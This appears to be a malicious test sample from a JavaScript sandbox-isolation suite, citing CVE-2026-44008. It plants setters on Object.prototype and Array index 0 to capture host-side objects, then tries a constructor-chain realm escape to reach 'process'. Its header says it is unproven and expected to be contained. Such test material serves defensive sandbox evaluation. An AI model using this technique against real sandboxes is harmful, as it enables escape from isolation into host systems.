/*---
id: re-proto-index-setter-03-object-setters
description: "Puts setters on Object.prototype for the property names a runtime's internal records use (value, result, logs, ok, error) and on Array index 0, then returns normally and checks what was captured while the runtime built its reply."
kind: malicious
category: realm-escape
technique: RE-proto-index-setter
variant: combined
references:
  - "CVE-2026-44008"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained }
  high-security: { outcome: contained }
  tenant-isolated: { outcome: contained }
---*/
const names = ['value', 'result', 'logs', 'ok', 'error', 'message', 'name', 'code', 'dropped'];
const seen = [];
for (const n of names) {
  Object.defineProperty(Object.prototype, n, { configurable: true, set(v) { seen.push(v); Object.defineProperty(this, n, { value: v, writable: true, enumerable: true, configurable: true }); } });
}
Object.defineProperty(Array.prototype, 0, { configurable: true, set(v) { seen.push(v); Object.defineProperty(this, 0, { value: v, writable: true, enumerable: true, configurable: true }); } });
console.log('tap');
try { null.x; } catch (e) {}
for (const v of seen) {
  if (typeof v === 'function' || (v !== null && typeof v === 'object')) {
    try { if (v.constructor.constructor('return typeof process')() !== 'undefined') console.log('ESCAPED'); } catch (e) {}
  }
}
return 'done';
